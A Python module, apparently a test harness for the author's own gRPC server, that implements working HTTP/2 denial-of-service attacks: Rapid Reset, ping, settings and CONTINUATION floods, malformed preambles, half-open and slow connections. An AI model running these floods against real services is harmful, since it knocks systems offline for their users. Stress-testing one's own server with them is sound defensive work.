"""Peers that abuse HTTP/2: each does one bad thing on connections of its own, for some seconds."""

import contextlib
import socket
import time
from collections.abc import Callable
from itertools import count

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
REQUEST = b"\0\0\0\0\0"  # an empty message
BATCH = 50
"""Frames that are sent together."""

Attack = Callable[[tuple[str, int], float], int]
"""Attacks an address for so many seconds; how often it did what it does."""


def header_block(path: str, *more: tuple[str, str]) -> bytes:
    """The header block of a call, which any stream of any connection may use."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    encoded: bytes = encoder.encode([(":path", path), *HEADERS, *more])
    return encoded


class Peer:
    """A connection, to a host and port or a path, that sends what it likes, and ignores what it gets."""

    def __init__(self, address: tuple[str, int] | str, *, greets: bool = True) -> None:
        if isinstance(address, str):
            self.socket = socket.socket(socket.AF_UNIX)
            self.socket.settimeout(5)
            self.socket.connect(address)
        else:
            self.socket = socket.create_connection(address, timeout=5)
            self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if greets:
            self.send(PREFACE + SettingsFrame().serialize())

    def __enter__(self) -> "Peer":
        return self

    def __exit__(self, *exception: object) -> None:
        self.socket.close()

    def headers(self, method: str = "makemore.v1.GenerationService/Generate") -> bytes:
        """The header block of a call, encoded alike for every stream."""
        return header_block(f"/{method}")

    def send(self, content: bytes) -> None:
        """All of it; raises OSError once the server has hung up or reads nothing."""
        self.socket.sendall(content)
        self.socket.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while self.socket.recv(2**16):
                pass
        self.socket.settimeout(1)


def frames(*every: Frame) -> bytes:
    """As they go over the wire."""
    return b"".join(frame.serialize() for frame in every)


def flood(address: tuple[str, int], seconds: float, make: Callable[[Peer, int], bytes]) -> int:
    """Send batch after batch, with a new connection whenever the server has closed the last."""
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with Peer(address) as peer:
                for number in count():
                    peer.send(make(peer, number))
                    sent += BATCH
                    time.sleep(0.01)
                    if time.monotonic() > end:
                        break
        except OSError:
            time.sleep(0.02)
    return sent


def rapid_reset(address: tuple[str, int], seconds: float) -> int:
    """Calls that are taken back as soon as they are made (CVE-2023-44487)."""

    def batch(peer: Peer, number: int) -> bytes:
        streams = range(2 * BATCH * number + 1, 2 * BATCH * (number + 1), 2)
        block = peer.headers()
        return b"".join(
            frames(
                HeadersFrame(stream, block, flags=["END_HEADERS"]),
                RstStreamFrame(stream, error_code=8),
            )
            for stream in streams
        )

    return flood(address, seconds, batch)


def ping_flood(address: tuple[str, int], seconds: float) -> int:
    """Pings without end (CVE-2019-9512)."""
    return flood(address, seconds, lambda *_: frames(*[PingFrame(0, b"12345678")] * BATCH))


def settings_flood(address: tuple[str, int], seconds: float) -> int:
    """Settings that each want an answer (CVE-2019-9515)."""
    return flood(address, seconds, lambda *_: frames(*[SettingsFrame()] * BATCH))


def endless_headers(address: tuple[str, int], seconds: float) -> int:
    """Headers that go on and on (CVE-2024-24549 and its kin)."""

    def batch(peer: Peer, number: int) -> bytes:
        block = peer.headers()
        first = [HeadersFrame(1, block)] if number == 0 else []
        return frames(*first, *[ContinuationFrame(1, b"\x00\x01a\x40" + b"x" * 64)] * BATCH)

    return flood(address, seconds, batch)


def garbage(address: tuple[str, int], seconds: float) -> int:
    """What is no HTTP/2 at all, or is only for a while."""
    done, end = 0, time.monotonic() + seconds
    beginnings = [
        b"\x16\x03\x01\x02\x00",
        b"GET / HTTP/1.1\r\n\r\n",
        b"\0" * 999,
        PREFACE + b"\xff" * 99,
    ]
    while time.monotonic() < end:
        with contextlib.suppress(OSError), Peer(address, greets=False) as peer:
            peer.send(beginnings[done % len(beginnings)])
        done += 1
        time.sleep(0.005)
    return done


def half_open(address: tuple[str, int], seconds: float) -> int:
    """Connections that say nothing, or stop in the middle of a call."""
    peers: list[Peer] = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if len(peers) < 200:
            with contextlib.suppress(OSError):
                peer = Peer(address, greets=len(peers) % 2 == 1)
                peers.append(peer)
                if len(peers) % 4 == 0:
                    peer.send(frames(HeadersFrame(1, peer.headers(), flags=["END_HEADERS"])))
        time.sleep(0.01)
    for peer in peers:
        peer.socket.close()
    return len(peers)


def slow(address: tuple[str, int], seconds: float) -> int:
    """Calls whose bytes come one at a time."""
    peers: list[tuple[Peer, bytes]] = []
    for _ in range(50):
        peer = Peer(address, greets=False)
        call = HeadersFrame(1, peer.headers(), flags=["END_HEADERS"])
        peers.append((peer, PREFACE + SettingsFrame().serialize() + frames(call)))
    end = time.monotonic() + seconds
    for place in count():
        for peer, content in peers:
            with contextlib.suppress(OSError):
                peer.send(content[place % len(content) :][:1])
        time.sleep(0.1)
        if time.monotonic() > end:
            break
    for peer, _ in peers:
        peer.socket.close()
    return len(peers)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        ping_flood,
        settings_flood,
        endless_headers,
        garbage,
        half_open,
        slow,
    )
}
